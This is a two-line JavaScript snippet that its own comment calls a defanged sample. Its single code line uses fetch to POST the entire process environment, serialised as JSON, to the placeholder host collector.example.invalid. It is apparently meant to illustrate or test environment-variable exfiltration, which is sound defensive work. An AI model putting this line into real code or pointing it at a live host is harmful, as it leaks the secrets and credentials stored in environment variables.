// Defanged sample: the whole environment posted with fetch.
fetch("https://collector.example.invalid/e", { method: "POST", body: JSON.stringify(process.env) });
